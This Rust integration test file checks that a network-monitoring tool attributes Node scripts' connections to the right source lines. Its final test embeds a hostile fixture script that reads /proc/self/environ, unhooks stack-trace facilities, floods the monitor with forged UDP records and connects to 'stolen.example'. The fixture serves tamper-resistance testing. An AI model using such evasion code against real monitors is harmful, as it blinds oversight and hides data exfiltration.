//! Which line of code sent what: real Node in the real room tells, and a package that does not want it to changes no verdict.

use std::path::Path;
use std::process::Command;

use serde_json::Value;

/// Runs a command in a folder with these files, and gives what was seen.
fn run(options: &[&str], files: &[(&str, &str)], command: &[&str]) -> (Option<i32>, Value, String) {
    let folder = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let path = folder.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    run_in(folder.path(), options, command)
}

fn run_in(folder: &Path, options: &[&str], command: &[&str]) -> (Option<i32>, Value, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_waxseal"))
        .args(["run", "--seed", "11", "--format", "json"])
        .args(options)
        .arg("--")
        .args(command)
        .current_dir(folder)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    let mut report: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|err| panic!("{err}: {said}"));
    let summary = report["packages"][0]["runs"][0].take();
    assert_eq!(summary["valid"], true, "{summary:#}");
    (out.status.code(), summary, said)
}

/// The lines that reached a host, without the folder they are in.
fn frames(summary: &Value, host: &str) -> Vec<String> {
    let destinations = summary["destinations"].as_array().unwrap();
    let found = destinations.iter().find(|it| it["name"] == host);
    let found = found.unwrap_or_else(|| panic!("{host}: {summary:#}"));
    let by = found["by"].as_array().unwrap().iter();
    by.filter_map(|author| author["frame"].as_str())
        .map(|frame| {
            frame
                .rsplit_once("/projects/")
                .map_or(frame, |(_, rest)| rest.split_once('/').unwrap().1)
        })
        .map(str::to_owned)
        .collect()
}

fn attribution(summary: &Value) -> [u64; 2] {
    ["connections", "unattributed"].map(|field| summary["attribution"][field].as_u64().unwrap())
}

/// One script, one host, one line.
fn check(name: &str, script: &str, expected: &str) {
    let (_, summary, said) = run(&[], &[(name, script)], &["node", name]);
    assert_eq!(
        frames(&summary, "a.example"),
        [expected],
        "{script}\n{said}\n{summary:#}"
    );
    assert_eq!(attribution(&summary)[1], 0, "{script}");
}

#[test]
fn a_request_of_http_names_its_line() {
    check(
        "send.js",
        "const http = require('http')\nfunction send () {\n  http.get('http://a.example/x', it => it.resume())\n}\nsend()",
        "send.js:3:8 send",
    );
}

#[test]
fn a_fetch_names_its_line_late_and_early() {
    check(
        "send.js",
        "async function send () {\n  await fetch('https://a.example/x')\n}\nsend()",
        "send.js:2:9 send",
    );
    check(
        "late.js",
        "setTimeout(async function later () {\n  await null\n  await fetch('https://a.example/x')\n}, 50)",
        "late.js:3:9 later",
    );
}

#[test]
fn a_connection_names_its_line() {
    check(
        "send.js",
        "require('net').connect(4444, 'a.example').end('x')",
        "send.js:1:16",
    );
    check(
        "send.mjs",
        "import { connect } from 'node:tls'\nconst socket = connect(443, 'a.example', { servername: 'a.example' })\nsocket.end('x')",
        "send.mjs:2:16",
    );
}

#[test]
fn a_module_of_ecmascript_names_its_line() {
    check(
        "send.mjs",
        "import { request } from 'node:https'\nexport const send = () => request('https://a.example/x').end()\nsend()",
        "send.mjs:2:27 send",
    );
}

#[test]
fn a_request_of_http2_names_its_line() {
    let script = "const session = require('http2').connect('https://a.example')
function ask (path) {
  return new Promise(done => session.request({ ':path': path }).on('close', done).resume())
}
const first = () => ask('/1')
first().then(() => session.close())";
    let (_, summary, _) = run(&[], &[("send.js", script)], &["node", "send.js"]);
    let found = frames(&summary, "a.example");
    assert_eq!(found, ["send.js:1:34", "send.js:3:38"], "{summary:#}");
}

#[test]
fn a_datagram_names_its_line() {
    let script = "require('dns').lookup('a.example', { family: 4 }, (_, address) => {
  const socket = require('dgram').createSocket('udp4')
  socket.send('x', 9999, address, () => socket.close())
})";
    check("send.js", script, "send.js:3:10");
}

#[test]
fn a_mail_names_the_line_that_made_its_connection() {
    let script = "function mail () {
  const socket = require('net').connect(25, 'a.example')
  const lines = ['EHLO a', 'MAIL FROM:<a@corp.example>', 'RCPT TO:<b@corp.example>', 'DATA', 'To: b@corp.example\\r\\n\\r\\nhi\\r\\n.', 'QUIT']
  socket.on('data', () => lines.length ? socket.write(lines.shift() + '\\r\\n') : socket.end())
}
setImmediate(mail)";
    let (_, summary, _) = run(&[], &[("send.js", script)], &["node", "send.js"]);
    let frame = summary["mails"][0]["frame"]
        .as_str()
        .unwrap_or_else(|| panic!("{summary:#}"));
    assert!(frame.ends_with("/send.js:2:33 mail"), "{frame}");
}

/// A client library that waits for something else first, and a queue; whoever called it is told.
#[test]
fn a_client_that_waits_names_whoever_called_it() {
    let client = "const http = require('http')
exports.post = async url => { await null; await new Promise(done => setImmediate(done)); return send(url) }
const send = url => new Promise((resolve, reject) => require('dns').resolve4(new URL(url).hostname, () => http.request(url, it => it.resume().on('end', resolve)).on('error', reject).end()))";
    let script =
        "const { post } = require('got')\nasync function mail () {\n  await post('http://a.example/x')\n}\nmail()";
    let files = [("node_modules/got/index.js", client), ("send.js", script)];
    let (_, summary, said) = run(&[], &files, &["node", "send.js"]);
    assert_eq!(frames(&summary, "a.example"), ["send.js:3:3 mail"], "{said}{summary:#}");
}

#[test]
fn a_connection_that_is_kept_names_every_line_that_used_it() {
    let script = "const http = require('http')
const agent = new http.Agent({ keepAlive: true, maxSockets: 1 })
const ask = path => new Promise(done => http.get('http://a.example' + path, { agent }, it => it.resume().on('end', done)))
const first = () => ask('/1')
const second = () => ask('/2')
async function main () {
  await Promise.all([first(), second()])
  agent.destroy()
}
main()";
    let (_, summary, _) = run(&[], &[("send.js", script)], &["node", "send.js"]);
    let destination = &summary["destinations"][0];
    assert_eq!(destination["times"], 1, "{summary:#}");
    // Both by the innermost line, which is the same; the one that made the connection is not taken for the other.
    assert_eq!(frames(&summary, "a.example"), ["send.js:3:46"], "{summary:#}");
    let script = script.replace("const second = () => ask('/2')", "const second = () => new Promise(done => http.get('http://a.example/2', { agent }, it => it.resume().on('end', done)))");
    let (_, summary, _) = run(&[], &[("send.js", &script)], &["node", "send.js"]);
    assert_eq!(
        frames(&summary, "a.example"),
        ["send.js:3:46", "send.js:5:47"],
        "{summary:#}"
    );
}

#[test]
fn children_and_threads_tell_too() {
    let files = [
        (
            "send.js",
            "const { Worker } = require('worker_threads')
new Worker('./thread.js')
require('child_process').spawnSync('sh', ['-c', 'node child.js'], { env: { PATH: process.env.PATH, NODE_EXTRA_CA_CERTS: process.env.NODE_EXTRA_CA_CERTS } })
require('child_process').fork('./forked.js')",
        ),
        ("thread.js", "fetch('http://thread.example')"),
        ("child.js", "fetch('http://child.example')"),
        ("forked.js", "fetch('http://forked.example')"),
    ];
    let (_, summary, said) = run(&[], &files, &["node", "send.js"]);
    for (host, frame) in [
        ("thread.example", "thread.js:1:1"),
        ("child.example", "child.js:1:1"),
        ("forked.example", "forked.js:1:1"),
    ] {
        assert_eq!(frames(&summary, host), [frame], "{said}{summary:#}");
    }
}

/// What can be seen from inside is as without it, and what a user asks Node for is done.
#[test]
fn nothing_of_it_is_seen_where_it_is_cheap_to_hide() {
    let script = "const { execFileSync } = require('child_process')
const events = require('events')
const seen = [
  process.env.NODE_OPTIONS, Object.keys(process.env).filter(it => /node_opt/i.test(it)).length,
  JSON.stringify(process.execArgv), JSON.stringify(process._preload_modules), Object.keys(require.cache).length,
  setTimeout.name, setTimeout.length, events.init.name, fetch.name, fetch.length, Error.stackTraceLimit, typeof Error.prepareStackTrace,
  execFileSync(process.execPath, ['-p', 'process.env.NODE_OPTIONS + Error.stackTraceLimit']).toString().trim(),
]
const done = require('util').inspect(Promise.resolve(1))
setTimeout(() => console.log('SEEN', seen.join(' '), done, new Error('x').stack.includes('bootloader')), 1)";
    let seen = |options: &[&str]| {
        let (_, _, said) = run(options, &[("look.js", script)], &["node", "look.js"]);
        said.lines()
            .find(|line| line.contains("SEEN"))
            .unwrap_or_else(|| panic!("{said}"))
            .to_owned()
    };
    let with = seen(&[]);
    assert_eq!(with, seen(&["--no-attribution"]));
    let own = seen(&["--env", "NODE_OPTIONS=--stack-trace-limit=7"]);
    assert!(
        own.contains("SEEN --stack-trace-limit=7 1 ") && own.contains("--stack-trace-limit=77"),
        "{own}"
    );
    assert_eq!(
        own,
        seen(&["--env", "NODE_OPTIONS=--stack-trace-limit=7", "--no-attribution"])
    );
}

#[test]
fn other_programs_are_counted_as_not_attributed() {
    let (_, summary, _) = run(
        &[],
        &[],
        &[
            "sh",
            "-c",
            "curl -s http://curl.example/ >/dev/null; node -e \"fetch('http://node.example')\"",
        ],
    );
    assert_eq!(attribution(&summary), [2, 1], "{summary:#}");
    assert_eq!(frames(&summary, "curl.example"), [""; 0]);
    let (_, summary, _) = run(
        &["--no-attribution"],
        &[],
        &["node", "-e", "fetch('http://node.example')"],
    );
    assert_eq!(summary["attribution"], Value::Null);
    assert_eq!(frames(&summary, "node.example"), [""; 0]);
}

/// A package that takes it apart, forges records, and drowns it: the run stays valid, and what is judged stays judged.
#[test]
fn a_package_that_forges_or_unhooks_changes_no_verdict() {
    let script = "const { TCP } = process.binding('tcp_wrap')
const fs = require('fs')
Error.stackTraceLimit = 0
Object.defineProperty(Error, 'prepareStackTrace', { get () { throw new Error('looked at') } })
Error.captureStackTrace = () => { throw new Error('used') }
WeakMap.prototype.get = WeakMap.prototype.set = Reflect.apply = () => { throw new Error('used') }
Array.prototype.push = String.prototype.slice = () => { throw new Error('used') }
const options = fs.readFileSync('/proc/self/environ', 'latin1').split('\\0').find(it => it.startsWith('NODE_OPTIONS='))
const text = fs.readFileSync(/--require=(.*)/.exec(options)[1], 'utf8')
const host = /HOST = '(.*)'/.exec(text)[1]
const port = /PORT = \\+'(.*)'/.exec(text)[1]
const socket = require('dgram').createSocket('udp4')
socket.bind(() => {
  for (let idx = 0; idx < 500; idx++) {
    socket.send(`c 10.0.2.15 ${idx + 1} forged${idx}\\n/innocent.js:1:1 \\x1b[2J\\n`, port, host)
    socket.send('\\xff'.repeat(999), port, host)
  }
  const handle = new TCP(0)
  const { TCPConnectWrap } = process.binding('tcp_wrap')
  require('net').connect(80, 'stolen.example', function () { this.end('GET / HTTP/1.1\\r\\nhost: stolen.example\\r\\n\\r\\n'); this.on('close', () => process.exit(0)); this.resume() })
})";
    let outcome = |options: &[&str]| {
        let options = [&["--allow", "other.example"], options].concat();
        let (code, summary, said) = run(&options, &[("send.js", script)], &["node", "send.js"]);
        let names: Vec<String> = summary["destinations"]
            .as_array()
            .unwrap()
            .iter()
            .map(|it| it["name"].to_string())
            .collect();
        (code, names, summary, said)
    };
    let (code, names, summary, said) = outcome(&[]);
    assert_eq!(
        (code, names),
        (Some(1), vec!["\"stolen.example\"".to_owned()]),
        "{said}{summary:#}"
    );
    // The forged ones, and that of the socket which sent them.
    assert_eq!(summary["attribution"]["strays"], 501, "{summary:#}");
    assert_eq!(summary["counters"]["stacks_lost"], 500, "{summary:#}");
    assert_eq!(summary["counters"]["datagrams_lost"], 0, "{summary:#}");
    assert!(summary["counters"]["datagrams"].as_u64().unwrap() < 100, "{summary:#}");
}
